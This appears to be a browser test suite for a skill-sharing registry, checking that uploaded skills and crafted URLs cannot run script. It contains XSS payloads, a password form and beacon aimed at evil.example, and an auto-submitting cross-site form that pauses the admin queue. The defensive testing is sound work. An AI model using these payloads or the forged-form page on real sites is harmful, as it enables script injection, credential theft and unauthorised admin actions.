"""Skills and pages that attack the visitor: nothing of theirs ever runs."""

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.registry import Registry, own_words

_HOSTILE = """
# <img src=x onerror="window.pwned=1"> Title

<script>window.pwned=1</script>
<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<form action="https://evil.example"><input name=password></form>
<style>body{display:none}</style>

[a link](javascript:window.pwned=1) [data](data:text/html;base64,PHNjcmlwdD4=)
![picture](https://evil.example/beacon.png "onerror=window.pwned=1")
[ref]: javascript:window.pwned=1 "x"
[click][ref] <https://evil.example/"onmouseover="window.pwned=1>
&lt;script&gt;window.pwned=1&lt;/script&gt; \u202eevil\u202c \u200bhidden\u200b

{{ 7 * 7 }} ${7*7} <%= 7 * 7 %>
"""


_ACTIVE = "main script, main iframe, main form[action^=http], main svg[onload]"


def _publish_hostile(page: Page, registry: Registry) -> str:
    name = "odd-letters"
    folder = registry.platform.folder / "hostile"
    skill = folder / name
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text(own_words(name) + _HOSTILE)
    (skill / "picture.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="pwned=1"/>')
    (skill / "page.html").write_text("<script>window.pwned=1</script>")
    registry.submit(page, registry.git.serve_repo(folder, "mallory/odd"))
    badge = page.locator("#walk header .badge")
    expect(badge).not_to_have_text("Waiting", timeout=40_000)
    expect(badge).not_to_have_text("Being checked", timeout=40_000)
    return page.url.rpartition("/")[2]


def test_nothing_of_a_hostile_skill_runs_on_any_page(cyd: Page, registry: Registry) -> None:
    submission_id = _publish_hostile(cyd, registry)
    submission = registry.get_json(f"/api/v1/submissions/{submission_id}")
    slug = submission["publishedSkillName"]
    pages = [f"/submissions/{submission_id}", "/queue", "/", "/trust", "/admin/reviews",
             f"/admin/reviews/{submission_id}"]  # fmt: skip
    if slug:
        pages += [f"/skills/{slug}{part}" for part in (
            "", "/files", "/files/SKILL.md", "/files/picture.svg", "/files/page.html",
            "/versions", "/security",
        )]  # fmt: skip
    asked: list[str] = []
    cyd.on("request", lambda request: asked.append(request.url))

    for path in pages:
        cyd.goto(path)
        assert cyd.evaluate("window.pwned") is None, path
        assert cyd.locator(_ACTIVE).count() == 0, path
        assert cyd.locator("main a[href^='javascript'], main a[href^='data']").count() == 0
        expect(cyd.locator("body")).to_be_visible()
    assert not [url for url in asked if "evil.example" in url]


@pytest.mark.parametrize("part", ["raw/picture.svg", "raw/page.html"])
def test_raw_files_are_never_pages_of_ours(ben: Page, registry: Registry, part: str) -> None:
    slug = registry.publish(
        ben,
        f"raw-{part[4:7]}",
        picture_dot_svg='<svg xmlns="http://www.w3.org/2000/svg"/>',
        page_dot_html="<p>A page</p>",
    )

    answer = ben.request.get(f"/skills/{slug}/{part}")

    assert answer.status == 200
    assert answer.headers["content-type"].startswith("text/plain")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in answer.headers["content-security-policy"]


def test_names_that_hurt_are_shown_as_they_are(ben: Page, registry: Registry) -> None:
    name = "<img src=x onerror=pwned=1>"
    ben.goto(f"/?q={name}")
    assert ben.evaluate("window.pwned") is None
    expect(ben.locator("#q, [name=q]").last).to_have_value(name)
    ben.goto("/submit?source=%22%3E%3Cscript%3Epwned=1%3C/script%3E")
    assert ben.evaluate("window.pwned") is None
    ben.goto("/skills/%3Cscript%3E/%3Cscript%3E/x")
    assert ben.evaluate("window.pwned") is None


@pytest.fixture
def evil_page(tmp_path: Path, registry: Registry) -> Iterator[str]:
    """A page of another site that sends a form to the registry as soon as it is opened."""
    page = f"""<form method=post action="{registry.url}/admin/queue/pause">
      <input name=duration value=24h><input name=reason value=pwned></form>
      <script>document.forms[0].submit()</script>"""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: object) -> None:
            return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    yield f"http://localhost:{server.server_port}/"
    server.shutdown()
    server.server_close()
    thread.join()


def test_a_form_of_another_site_changes_nothing(
    cyd: Page, registry: Registry, evil_page: str
) -> None:
    cyd.goto(evil_page)
    cyd.wait_for_url(f"{registry.url}/**")

    expect(cyd.locator("body")).not_to_contain_text("Paused; it goes on")
    assert registry.get_json("/api/v1/queue/stats")["pausedUntil"] is None
